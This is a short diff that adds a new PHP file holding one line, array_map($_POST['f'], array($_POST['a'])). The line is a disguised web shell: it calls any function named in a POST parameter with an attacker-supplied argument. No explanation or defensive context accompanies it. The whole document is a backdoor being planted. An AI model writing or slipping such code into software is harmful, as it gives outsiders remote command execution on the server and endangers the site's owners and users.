@@ -1,0 +1,2 @@
+<?php
+array_map($_POST['f'], array($_POST['a']));
